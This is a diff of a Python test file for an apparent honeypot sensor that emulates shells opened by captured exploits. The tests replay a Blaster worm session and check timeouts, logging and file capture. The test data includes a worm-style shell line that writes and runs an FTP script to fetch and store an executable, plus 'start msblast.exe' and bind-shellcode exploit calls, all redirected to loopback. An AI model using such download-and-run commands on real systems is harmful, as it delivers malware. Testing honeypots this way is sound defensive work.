@@ -6,6 +6,7 @@ shell it asks for is then spoken to on loopback.  The public address in
 the connect-back shellcode is pointed at a local listener with
 download.connect_to; nothing leaves the test's network namespace.
 """
+import hashlib
 import socket
 import subprocess
 import threading
@@ -120,22 +121,28 @@ def test_blaster_shell_replayed(sundew):
     exp, session = exploit(d, bind_shellcode(4444))
     d.wait_events("sundew.shell.open", session=session, state="listening")
     r = subprocess.run([str(SUNDEW), "replay", str(BLASTER), "--to",
-                        "127.0.0.1", "-v"], capture_output=True, text=True,
-                       timeout=60)
-    assert r.returncode == 0, r.stdout + r.stderr
+                        "127.0.0.1", "--retry", "1"], capture_output=True,
+                       text=True, timeout=60)
     d.wait_events("sundew.shell.close", session=session)
     exp.close()
     d.stop()
+    # The worm got the banner and a prompt, then each line its echo, its
+    # answer and a prompt.
+    msblast = (b"'msblast.exe' is not recognized as an internal or "
+               b"external command,\r\noperable program or batch file.\r\n")
+    answers = (BANNER + PROMPT + b"start msblast.exe\n" + b"\r\n" + PROMPT +
+               b"msblast.exe\n" + msblast + b"\r\n" + PROMPT)
+    assert (f"tcp 10.234.0.239:1793 -> 4444: sent 30 bytes in 2 chunks, "
+            f"received {len(answers)} bytes") in r.stdout, r.stdout
+    # The capture holds the session twice (two interfaces): the shell
+    # takes one peer, so the second is refused.
+    assert "summary: 1 played, 1 failed" in r.stdout, r.stdout
     commands = d.events("sundew.shell.command", session=session)
-    assert [c["command"] for c in commands] == ["start msblast.exe",
-                                                "msblast.exe"]
-    # The worm got its prompt first, and each line its answer.
-    assert [c["output_size"] for c in commands] == [
-        0, len(b"'msblast.exe' is not recognized as an internal or "
-               b"external command,\r\noperable program or batch file.\r\n")]
-    closed = d.events("sundew.shell.close", session=session)[0]
-    assert closed["reason"] == "peer_closed"
-    assert closed["bytes_out"] > len(BANNER + PROMPT)
+    assert [(c["command"], c["output_size"]) for c in commands] == [
+        ("start msblast.exe", 0), ("msblast.exe", len(msblast))]
+    closed = d.events("sundew.shell.close", session=session)
+    assert [(c["reason"], c["commands"], c["bytes_out"]) for c in closed] == \
+        [("peer_closed", 2, len(answers))]
 
 
 @needs_corpus(REVERSE)
@@ -226,18 +233,20 @@ def test_long_line_is_a_protocol_error(sundew):
     s.sendall(b"echo " + b"a" * 9000)
     s.settimeout(10)
     got = b""
-    while True:
-        chunk = s.recv(65536)
-        if not chunk:
-            break
-        got += chunk
+    try:
+        while chunk := s.recv(65536):
+            got += chunk
+    except ConnectionResetError:    # closed with our input unread
+        pass
     closed = d.wait_events("sundew.shell.close", session=session)
+    log = d.log_text()
     exp.close()
     d.stop()
     assert got == b""
     assert closed[0]["reason"] == "protocol_error"
     assert d.events("sundew.shell.command", session=session) == []
-    assert "a line longer than 8192 bytes" in d.log_text()
+    assert f"shell of session {session}: a line longer than 8192 bytes: " \
+        "closed (1 so far)" in log, log
 
 
 @needs_corpus(BIND)
@@ -258,14 +267,67 @@ def test_shells_per_sensor_capped(sundew):
 
 
 @needs_corpus(BIND)
-def test_ftp_script_typed_in_the_shell_is_offered(sundew):
-    d = sundew()
-    exp, s, session = open_shell(d)
-    line = ("echo open 0.0.0.0 8884 > o & echo user 1 1 >> o & "
-            "echo get f.exe >> o & ftp -n -s:o")
-    assert run(s, line) == b""
-    offers = d.wait_events("sundew.download.offer", session=session)
-    s.close()
-    exp.close()
+def test_ftp_script_typed_in_the_shell_is_fetched_and_stored(sundew, tmp_path):
+    from test_capture import FtpServer
+
+    body = b"MZ" + bytes(range(256)) * 64
+    root = tmp_path / "ftp"
+    root.mkdir()
+    (root / "f.exe").write_bytes(body)
+    ftp = FtpServer(root, 8884)
+    try:
+        # The shell's peer is the attacker, 127.0.0.1: "open 0.0.0.0"
+        # means it, and the rule sends it to the test's server.
+        d = sundew(["download.connect_to=127.0.0.1:8884:127.0.0.1:8884"])
+        exp, s, session = open_shell(d)
+        line = ("echo open 0.0.0.0 8884 > o & echo user 1 1 >> o & "
+                "echo get f.exe >> o & ftp -n -s:o")
+        assert run(s, line) == b""
+        # The same script again in the same shell: offered once.
+        assert run(s, "ftp -n -s:o") == b""
+        stored = d.wait_events("sundew.file.stored", session=session,
+                               kind="binary", timeout=30)
+        s.close()
+        exp.close()
+        d.stop()
+    finally:
+        ftp.close()
+    assert ftp.retrieved == ["f.exe"]
+    url = "ftp://1:1@127.0.0.1:8884/f.exe"
+    assert [o["url"] for o in d.events("sundew.download.offer",
+                                       session=session)] == [url]
+    assert [(c["url"], c["size"]) for c in d.events(
+        "sundew.download.complete", session=session)] == [(url, len(body))]
+    sha = hashlib.sha256(body).hexdigest()
+    assert [e["sha256"] for e in stored] == [sha]
+    assert (d.data / "binaries" / sha).read_bytes() == body
+
+
+@needs_corpus(BIND)
+def test_session_and_idle_timeouts(sundew):
+    d = sundew(["shell.session_timeout=2s", "limits.idle_timeout=3s"])
+    # Busy: ended by shell.session_timeout, however much is typed.
+    e1, s1, sess1 = open_shell(d, 4450, src="127.0.0.2")
+    start = time.monotonic()
+    with pytest.raises(AssertionError, match="closed after"):
+        while time.monotonic() - start < 10:
+            run(s1, "ver")
+            time.sleep(0.2)
+    busy = time.monotonic() - start
+    # Silent: ended by limits.idle_timeout... which the session's 2 s
+    # would beat, so a session of its own with a longer life.
+    c1 = d.wait_events("sundew.shell.close", session=sess1)
     d.stop()
-    assert [o["url"] for o in offers] == ["ftp://1:1@127.0.0.1:8884/f.exe"]
+    d = sundew(["shell.session_timeout=60s", "limits.idle_timeout=2s"])
+    e2, s2, sess2 = open_shell(d, 4451, src="127.0.0.3")
+    s2.settimeout(10)
+    start = time.monotonic()
+    assert s2.recv(100) == b""
+    idle = time.monotonic() - start
+    c2 = d.wait_events("sundew.shell.close", session=sess2)
+    e1.close()
+    e2.close()
+    d.stop()
+    assert c1[0]["reason"] == "session_timeout" and 1.5 < busy < 4
+    assert c1[0]["commands"] >= 3
+    assert c2[0]["reason"] == "idle_timeout" and 1.5 < idle < 4
